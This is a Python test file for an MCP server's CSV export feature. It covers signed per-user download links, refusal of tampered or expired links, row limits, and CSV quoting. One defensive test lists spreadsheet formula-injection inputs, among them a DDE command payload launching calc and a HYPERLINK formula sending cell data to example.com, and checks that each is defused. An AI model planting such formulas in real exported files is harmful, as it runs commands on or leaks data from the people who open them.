"""Answers as CSV, as a client sees them: the link that comes with an answer, and the file behind it."""

import asyncio
import csv
import io
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field, replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from threading import Event
from typing import Any

import pytest
from fastmcp import Client, FastMCP
from fastmcp.client.transports import FastMCPTransport
from fastmcp.exceptions import McpError
from mcp_types import ResourceLink, TextContent, TextResourceContents
from starlette.testclient import TestClient

from tests import tiny_shop
from tests.fakes import (
    STORES_QUERY,
    FakeInventoryRepository,
    FakeProductRepository,
    FakeSalesRepository,
    FakeSandbox,
    FakeStoreDirectory,
)
from tests.tiny_shop import PersonRow
from tests.unit.test_tools import NOW, retail_tools
from zava.adapters.mcp.csv_files import CsvFiles, csv_text
from zava.adapters.mcp.identity import KnownTokens
from zava.adapters.mcp.pipeline import Pipeline, ToolSpec
from zava.adapters.mcp.questions import REFUSAL, SignedQuestions
from zava.adapters.mcp.server import build_server
from zava.core.errors import BusyError
from zava.core.model import MOST_FILE_ROWS, Principal, ResultColumn, Table
from zava.core.turns import Turns
from zava.core.use_cases.analyze_sales import AnalyzeSales
from zava.core.use_cases.check_inventory import CheckInventory
from zava.core.use_cases.execute_sales_query import ExecuteSalesQuery

BY_CATEGORY = {"metrics": ["revenue", "orders"], "period": "2026-03", "group_by": ["category"]}
REFUSED = f"NOT_FOUND: {REFUSAL}"

InMemory = Client[FastMCPTransport]


class Hour:
    """A clock that a test moves on."""

    def __init__(self) -> None:
        self.now = NOW

    def __call__(self) -> datetime:
        return self.now


@dataclass
class NumbersSandbox(FakeSandbox):
    """Counts to as many rows as it is allowed, with limits of an answer and of a file."""

    there: int = 5
    most: int = 2
    most_of_file: int = 4
    asked_by: list[Principal] = field(default_factory=list)

    async def execute_sales_query(self, principal: Principal, query: str, *, for_file: bool = False) -> Table:  # noqa: ARG002
        self.asked_by.append(principal)
        most = self.most_of_file if for_file else self.most
        return Table(
            columns=(ResultColumn("n", "integer"),),
            rows=tuple((n,) for n in range(min(self.there, most))),
            truncated="rows" if self.there > most else None,
            stores=(),
            as_of=NOW,
        )


@dataclass
class House:
    """The server as several people see it, one at a time."""

    sandbox: FakeSandbox = field(default_factory=FakeSandbox)
    clock: Hour = field(default_factory=Hour)
    secret: bytes = b"a" * 32
    without_sql: bool = False

    def server_for(self, person: PersonRow) -> FastMCP:
        turns = Turns(at_once=4, waiting=8, patience=5)
        tools = replace(retail_tools(), query=None if self.without_sql else ExecuteSalesQuery(self.sandbox, turns))
        files = self.files()
        identity = KnownTokens({"token": person.principal}, "token")
        return build_server(
            tools.specs(),
            Pipeline(identity.caller, timeout=5, link=files.link),
            files=files.spec(),
            auth=None,
            version="0.0.0",
        )

    def files(self) -> CsvFiles:
        turns = Turns(at_once=4, waiting=8, patience=5)
        large = replace(
            retail_tools(),
            analyze=AnalyzeSales(
                FakeStoreDirectory(),
                FakeSalesRepository(),
                FakeProductRepository(),
                lambda: NOW,
                most_rows=MOST_FILE_ROWS,
            ),
            inventory=CheckInventory(
                FakeStoreDirectory(),
                FakeInventoryRepository(),
                FakeProductRepository(),
                lambda: NOW,
                most_rows=MOST_FILE_ROWS,
            ),
            query=None if self.without_sql else ExecuteSalesQuery(self.sandbox, turns, for_file=True),
        )
        return CsvFiles(large.specs(), SignedQuestions(self.secret, self.clock), Turns(2, 2, 5))

    def client(self, person: PersonRow = tiny_shop.SEATTLE, mode: str = "auto") -> InMemory:
        return Client(self.server_for(person), mode=mode)

    async def link(self, tool: str, arguments: dict[str, Any], person: PersonRow = tiny_shop.SEATTLE) -> str:
        async with self.client(person) as client:
            link = await link_of(client, tool, arguments)
        assert link is not None
        return str(link.uri)

    async def read(self, uri: str, person: PersonRow = tiny_shop.SEATTLE) -> list[str]:
        async with self.client(person) as client:
            return await read(client, uri)

    async def refusal(self, uri: str, person: PersonRow = tiny_shop.SEATTLE) -> str:
        with pytest.raises(McpError) as caught:
            await self.read(uri, person)
        return caught.value.error.message


async def link_of(client: InMemory, tool: str, arguments: dict[str, Any]) -> ResourceLink | None:
    """The link of an answer, if it has one."""
    text, *links = (await client.call_tool(tool, arguments)).content
    assert isinstance(text, TextContent)
    assert "zava://" not in text.text
    if not links:
        return None
    (link,) = links
    assert isinstance(link, ResourceLink)
    return link


async def read(client: InMemory, uri: str) -> list[str]:
    """The file, and a note if there is one."""
    contents = await client.read_resource(uri)
    assert all(isinstance(content, TextResourceContents) for content in contents)
    assert [content.mime_type for content in contents] == ["text/csv", "text/plain"][: len(contents)]
    return [content.text for content in contents if isinstance(content, TextResourceContents)]


def table_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def written(*values: object, names: Sequence[str] = ()) -> str:
    """The line of a row of these values."""
    return csv_text(names or [f"c{n}" for n in range(len(values))], [values]).split("\r\n", 1)[1]


@pytest.mark.parametrize("mode", ["auto", "legacy"])
@pytest.mark.parametrize(
    ("tool", "arguments"),
    [("analyze_sales", BY_CATEGORY), ("execute_sales_query", {"postgresql_query": STORES_QUERY})],
)
async def test_a_table_is_read_again_as_csv(tool: str, arguments: dict[str, Any], mode: str) -> None:
    async with House().client(tiny_shop.REGION, mode) as client:
        answer = await client.call_tool(tool, arguments)
        link = await link_of(client, tool, arguments)
        assert link is not None
        (text,) = await read(client, str(link.uri))
    assert answer.structured_content
    columns = [column["name"] for column in answer.structured_content["columns"]]
    rows = [[str(value) for value in row] for row in answer.structured_content["rows"]]
    assert len(rows) > 1
    header, *lines = table_of(text)
    assert header == columns
    assert [[as_number(cell) for cell in line] for line in lines] == [[as_number(cell) for cell in row] for row in rows]
    assert (link.name, link.mime_type) == (f"{tool}.csv", "text/csv")
    assert link.description == "All rows as CSV, for an hour"


def as_number(cell: str) -> object:
    return Decimal(cell) if cell.replace(".", "", 1).lstrip("-").isdigit() else cell


async def test_products_at_risk_and_stores_side_by_side_are_tables_too() -> None:
    house = House()
    uri = await house.link("check_inventory", {"max_rows": 2}, tiny_shop.HEAD_OFFICE)
    names, *rows = table_of((await house.read(uri, tiny_shop.HEAD_OFFICE))[0])
    assert names[:4] == ["risk", "store", "product", "sku"]
    assert len(rows) > 2
    uri = await house.link("compare_stores", {"period": "2026-03"}, tiny_shop.HEAD_OFFICE)
    names, *rows = table_of((await house.read(uri, tiny_shop.HEAD_OFFICE))[0])
    assert names[:2] == ["store", "revenue"]
    assert {row[0] for row in rows} == {"Bellevue", "Seattle", "Tacoma"}


async def test_an_analysis_that_was_cut_is_whole_in_its_file() -> None:
    house = House()
    limited = BY_CATEGORY | {"limit": 1}
    (text,) = await house.read(await house.link("analyze_sales", limited))
    async with house.client() as client:
        answer = (await client.call_tool("analyze_sales", BY_CATEGORY)).structured_content
        assert (await client.call_tool("analyze_sales", limited)).structured_content != answer
    assert answer
    assert len(table_of(text)) == answer["slices"] + 1 > 2


async def test_a_query_has_more_rows_in_its_file_and_says_when_it_has_not_all() -> None:
    house = House(NumbersSandbox(there=3))
    uri = await house.link("execute_sales_query", {"postgresql_query": "SELECT n"})
    assert await house.read(uri) == ["n\r\n0\r\n1\r\n2\r\n"]
    house.sandbox = NumbersSandbox(there=5)
    assert await house.read(uri) == [
        "n\r\n0\r\n1\r\n2\r\n3\r\n",
        "Cut short: these are 4 rows, and there are more.",
    ]


async def test_callers_cannot_ask_for_the_rows_of_a_file() -> None:
    async with House().client() as client:
        for arguments in (BY_CATEGORY | {"limit": 1_001}, BY_CATEGORY | {"limit": MOST_FILE_ROWS}):
            answer = await client.call_tool("analyze_sales", arguments, raise_on_error=False)
            assert answer.is_error
        query = {"postgresql_query": STORES_QUERY, "for_file": True}
        assert (await client.call_tool("execute_sales_query", query, raise_on_error=False)).is_error


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("get_current_utc_date", {}),
        ("get_store_performance", {"period": "2026-03"}),
        ("find_order", {"order_number": 1}),
        ("analyze_sales", {"metrics": ["revenue"], "period": "2026-03"}),  # one row, and no more
        ("execute_sales_query", {"postgresql_query": STORES_QUERY}),  # of Seattle alone
    ],
)
async def test_what_is_no_table_has_no_link(tool: str, arguments: dict[str, Any]) -> None:
    async with House().client() as client:
        assert await link_of(client, tool, arguments) is None


@pytest.mark.parametrize(
    ("version", "kinds"),
    [("2024-11-05", ["text"]), ("2025-03-26", ["text"]), ("2025-06-18", ["text", "resource_link"])],
)
def test_a_client_of_a_protocol_that_has_no_links_is_given_none(version: str, kinds: list[str]) -> None:
    app = House().server_for(tiny_shop.SEATTLE).http_app(json_response=True, stateless_http=True)
    call = {"name": "analyze_sales", "arguments": BY_CATEGORY}
    with TestClient(app, base_url="http://127.0.0.1:8000") as http:
        answer = http.post(
            "/mcp",
            json={"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": call},
            headers={"Accept": "application/json, text/event-stream", "MCP-Protocol-Version": version},
        )
    assert [content["type"] for content in answer.json()["result"]["content"]] == kinds


@dataclass(frozen=True)
class SlowRows:
    """A table that is written only when it may be."""

    begun: Event = field(default_factory=Event)
    goes_on: Event = field(default_factory=Event)
    columns: tuple[ResultColumn, ...] = ()
    cut: bool = True

    @property
    def rows(self) -> Iterator[tuple[object, ...]]:
        self.begun.set()
        self.goes_on.wait(5)
        yield ()


async def test_who_gives_up_a_file_has_no_turn_for_another_until_it_is_written() -> None:
    table = SlowRows()

    async def execute_sales_query(principal: Principal) -> Any:  # noqa: ANN401, ARG001 - as tools are
        return table

    spec = ToolSpec(execute_sales_query, title="", text=str)
    files = CsvFiles([spec], SignedQuestions(b"a" * 32, lambda: NOW), Turns(1, 0, 5))
    principal = tiny_shop.SEATTLE.principal
    question = files.questions.sign(principal, "execute_sales_query", {})
    assert question
    reading = asyncio.create_task(files.csv(principal, question))
    assert await asyncio.to_thread(table.begun.wait, 5)
    reading.cancel()
    await asyncio.sleep(0.05)
    with pytest.raises(BusyError):
        await files.csv(principal, question)
    table.goes_on.set()
    with pytest.raises(asyncio.CancelledError):
        await reading


async def test_an_error_has_no_link() -> None:
    async with House().client() as client:
        answer = await client.call_tool("analyze_sales", BY_CATEGORY | {"period": "soon"}, raise_on_error=False)
    assert answer.is_error
    assert [content.type for content in answer.content] == ["text"]


async def test_the_link_of_one_person_opens_nothing_for_another() -> None:
    house = House(NumbersSandbox())
    uri = await house.link("execute_sales_query", {"postgresql_query": "SELECT n"}, tiny_shop.REGION)
    asked = len(house.sandbox.asked_by) if isinstance(house.sandbox, NumbersSandbox) else 0
    for other in (tiny_shop.SEATTLE, tiny_shop.TACOMA, tiny_shop.HEAD_OFFICE):
        assert await house.refusal(uri, other) == REFUSED
    assert isinstance(house.sandbox, NumbersSandbox)
    assert len(house.sandbox.asked_by) == asked
    assert await house.read(uri, tiny_shop.REGION)
    assert house.sandbox.asked_by[-1] == tiny_shop.REGION.principal


async def test_foreign_expired_cut_changed_and_gone_are_refused_in_the_same_words() -> None:
    house = House()
    query = {"postgresql_query": STORES_QUERY}
    uri = await house.link("execute_sales_query", query, tiny_shop.REGION)
    region = tiny_shop.REGION
    refusals = {
        await house.refusal(uri, tiny_shop.TACOMA),
        await house.refusal(uri[:-1], region),
        await house.refusal(uri + "A", region),
        await house.refusal("zava://csv/made-up", region),
        await house.refusal(f"zava://csv/{'A' * 5_000}", region),
        await replace(house, without_sql=True).refusal(uri, region),
        await replace(house, secret=b"b" * 32).refusal(uri, region),
    }
    house.clock.now += timedelta(minutes=61)
    refusals.add(await house.refusal(uri, region))
    assert refusals == {REFUSED}


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("analyze_sales", {"metrics": ["revenue"]}),
        ("analyze_sales", BY_CATEGORY | {"stores": ["Tacoma"]}),
        ("execute_sales_query", {}),
        ("find_order", {"order_number": 1}),
        ("no_such_tool", {}),
    ],
)
async def test_a_question_that_no_tool_takes_any_more_is_refused(tool: str, arguments: dict[str, Any]) -> None:
    house = House()
    token = SignedQuestions(house.secret, house.clock).sign(tiny_shop.SEATTLE.principal, tool, arguments)
    assert await house.refusal(f"zava://csv/{token}") == REFUSED


async def test_a_refusal_of_the_question_itself_keeps_its_words() -> None:
    """As when a query has become wrong in the meantime."""
    house = House()
    token = SignedQuestions(house.secret, house.clock).sign(
        tiny_shop.SEATTLE.principal, "execute_sales_query", {"postgresql_query": "nonsense"}
    )
    assert "INVALID_QUERY: syntax error" in await house.refusal(f"zava://csv/{token}")


async def test_a_file_is_announced_as_a_template() -> None:
    async with House().client() as client:
        (template,) = await client.list_resource_templates()
    assert (template.uri_template, template.mime_type) == ("zava://csv/{question}", "text/csv")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        '=HYPERLINK("http://example.com/?"&A1,"see")',
        "=cmd|' /C calc'!A0",
        "＝1",  # noqa: RUF001 - spreadsheets take it as well
    ],
)
def test_a_text_that_would_be_a_formula_is_defused(text: str) -> None:
    (row,) = table_of(written(text))
    assert row == [f"'{text}"]
    (names, _) = table_of(csv_text([text], [(1,)]))
    assert names == [f"'{text}"]


@pytest.mark.parametrize("text", ["a=1", "Ann", "'=1", "1-2", "", "é@b", "10 % off"])
def test_any_other_text_is_as_it_was(text: str) -> None:
    assert table_of(written(text, 1)) == [[text, "1"]]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (-5, "-5"),
        (0, "0"),
        (12345678901234567890, "12345678901234567890"),
        (-1.5, "-1.5"),
        (1e300, "1e+300"),
        (Decimal("-1234567.89"), "-1234567.89"),
        (Decimal("12.50"), "12.50"),
        (Decimal("0.33333333333333333333"), "0.33333333333333333333"),
        (Decimal("0.00000001"), "0.00000001"),
        (Decimal("1E+3"), "1000"),
        (True, "true"),
        (False, "false"),
        (date(2026, 3, 1), "2026-03-01"),
        (datetime(2026, 3, 1, 12, tzinfo=UTC), "2026-03-01T12:00:00+00:00"),
        ([-1, None, "é"], '"[-1,null,""é""]"'),
        ({"a": Decimal("1.5"), "b": ["=1"]}, '"{""a"":1.5,""b"":[""=1""]}"'),
    ],
)
def test_values_are_written_in_one_way_everywhere(value: object, cell: str) -> None:
    assert written("x", value) == f"x,{cell}\r\n"


def test_what_separates_is_quoted_as_rfc_4180_says() -> None:
    assert written('a,"b"', "two\nlines", "plain") == '"a,""b""","two\nlines",plain\r\n'
    assert csv_text(["a b", "c,d"], []) == 'a b,"c,d"\r\n'


def test_whatever_stands_in_a_table_is_read_back() -> None:
    rows = [["a\r\nb", ";", "\\", "'"], ['"', "", " x ", "李"], ["\u2028", "\x0b", "a\tb", "null"]]
    assert table_of(csv_text("abcd", rows))[1:] == rows


def test_a_column_of_nothing_keeps_its_rows() -> None:
    assert table_of(csv_text(["a"], [[None], [None]])) == [["a"], [""], [""]]
